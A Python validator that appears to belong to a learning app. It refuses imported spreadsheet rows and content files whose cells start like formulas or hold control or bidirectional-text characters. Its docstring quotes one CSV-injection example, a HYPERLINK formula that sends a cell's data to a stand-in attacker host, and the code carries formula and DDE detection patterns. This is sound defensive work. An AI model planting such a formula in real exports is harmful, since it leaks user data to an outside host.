"""Checks on imported content (spreadsheet rows, content files) for text that is dangerous where Matte
shows it again.

A shared deck is written by someone else. A cell such as `=HYPERLINK("http://evil.example/?"&D2,...)`
would come back as a live formula in the instructor's CSV report, and an ESC sequence or a U+202E
would rewrite what a terminal or a leaderboard shows. Such rows are refused, naming row and column.
Reports neutralise formulas anyway (`bot.text_safety.csv_cell`); refusing them here tells the author.

A leading `+` or `-` alone is ordinary writing (「+81から始まる番号」), so those count as formulas only
when a function call, a cell reference or another formula sign follows.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from typing import Any

from bot.text_safety import unsafe_characters

ITEM = re.compile(r"items\[\d+\]")
ALWAYS_FORMULA = frozenset("=＝\t")
SIGNS = frozenset("+-@＋－＠")
FORMULA_PARTS = re.compile(r"[A-Za-z_][\w.]*\s*\(|\$?\b[A-Za-z]{1,3}\$?\d+\b|[=|!]")
"""A function call, a cell reference (A1, $D$2) or `=`, `|` (DDE) or `!` (another sheet)."""


def is_formula(text: str) -> bool:
    stripped = text.lstrip(" \u3000")
    if not stripped:
        return False
    first = stripped[0]
    return first in ALWAYS_FORMULA or (first in SIGNS and bool(FORMULA_PARTS.search(stripped[1:])))


def row_problems(row: Mapping[str, str] | Mapping[str | None, str | list[str] | None]) -> list[str]:
    """One message per cell of a `csv.DictReader` row that holds a formula or unsafe characters."""
    found = []
    for column, value in row.items():
        cells = value if isinstance(value, list) else [value or ""]
        name = column if column is not None else "(extra cell)"
        for cell in cells:
            if is_formula(cell):
                found.append(
                    f"{name} starts like a spreadsheet formula ({cell.strip()[:20]!r}); "
                    "write it without = + - @ in front"
                )
            codes = unsafe_characters(cell)
            if codes:
                found.append(f"{name} contains control or text-direction characters ({', '.join(codes)})")
    return found


def unsafe_texts(data: Any) -> Iterator[tuple[str, str, str]]:
    """(item id or "", where, message) for each string in a parsed content file (deck, lesson or
    course) with control or text-direction characters. Formulas are not looked for here: these files
    are not spreadsheets, and reports neutralise formulas anyway."""
    stack: list[tuple[Any, str, str]] = [(data, "", "")]
    while stack:
        value, where, item_id = stack.pop()
        if isinstance(value, dict):
            item_id = str(value.get("id", "")) if ITEM.fullmatch(where) else item_id
            stack += [(v, f"{where}.{k}" if where else str(k), item_id) for k, v in value.items()]
        elif isinstance(value, list):
            stack += [(v, f"{where}[{n}]", item_id) for n, v in enumerate(value)]
        elif isinstance(value, str) and (codes := unsafe_characters(value)):
            yield item_id, where, f"contains control or text-direction characters ({', '.join(codes)})"
